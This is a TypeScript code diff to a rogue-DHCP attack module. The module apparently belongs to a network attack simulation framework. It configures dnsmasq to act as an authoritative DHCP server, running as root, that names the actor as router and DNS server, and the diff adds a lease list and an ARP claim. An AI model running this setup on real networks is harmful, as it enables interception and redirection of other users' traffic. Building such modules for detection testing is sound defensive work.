@@ -6,6 +6,8 @@ import { place } from '../services/daemon.ts';
 import { runAndRestore } from './interception.ts';
 
 const serverPort = 67;
+/** What it gives away: not what the router does. */
+const leases = Array.from({ length: 40 }, (_, index) => `192.0.2.${index + 201}`);
 const askSeconds = 6;
 const restoreSeconds = 2;
 const pausesBetween: Readonly<Record<Intensity, number>> = { quiet: 60, medium: 12, loud: 4 };
@@ -21,7 +23,7 @@ export const rogueDhcp: Attack = {
   async run({ intensity, actor, targets, seconds, signal }) {
     const lines = [
       ...['keep-in-foreground', 'user=root', 'port=0', 'interface=eth0', 'no-ping', 'dhcp-authoritative'],
-      'dhcp-range=192.0.2.201,192.0.2.240,255.255.255.0,2m',
+      `dhcp-range=${leases[0]},${leases.at(-1)},255.255.255.0,2m`,
       `dhcp-option=option:router,${actor.address}`,
       `dhcp-option=option:dns-server,${actor.address}`,
       `dhcp-leasefile=${join(actor.folder, 'rogue-leases')}`,
@@ -38,8 +40,11 @@ export const rogueDhcp: Attack = {
     await clients;
     return {
       tool: 'dnsmasq',
-      arguments: `dhcp-range=192.0.2.201,192.0.2.240 dhcp-option=option:router,${actor.address}`,
-      claims: [{ actors: [actor.address], protocol: 'udp', actorPorts: [serverPort] }],
+      arguments: `dhcp-range=${leases[0]},${leases.at(-1)} dhcp-option=option:router,${actor.address}`,
+      claims: [
+        { actors: [actor.address], protocol: 'udp', actorPorts: [serverPort] },
+        { actors: [actor.address], targets: leases, protocol: 'arp' },
+      ],
     };
   },
 };
